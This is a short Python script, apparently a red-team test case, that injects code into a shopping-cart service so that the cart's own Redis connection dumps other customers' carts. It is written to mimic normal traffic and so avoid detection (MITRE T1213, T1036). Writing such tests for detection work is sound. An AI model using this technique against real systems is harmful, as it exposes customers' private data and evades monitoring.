#!/usr/bin/python3 -B
"""Mimicry: other customers' carts, read with cart's own connection to redis, in calls that cart
makes all the time. No process, no file, no connection is new (T1213)."""

import json

from attack import Attack


def run(attack: Attack) -> bool:
    attack.visit("POST", "/cart/victim", {"product": 42, "quantity": 3})
    said = attack.cart_code(
        "const stolen = {}, keys = await redis.ask('KEYS', 'cart:*');"
        " for (const key of keys.slice(0, 20).concat('cart:victim'))"
        " stolen[key] = await redis.ask('HGETALL', key); return JSON.stringify(stolen)")
    stolen = json.loads(said)
    return attack.prove(stolen.get("cart:victim", [None])[0] == "42", carts=len(stolen))


Attack("T1213, T1036", ["edge", "cart"], ["others' carts"]).main(run)
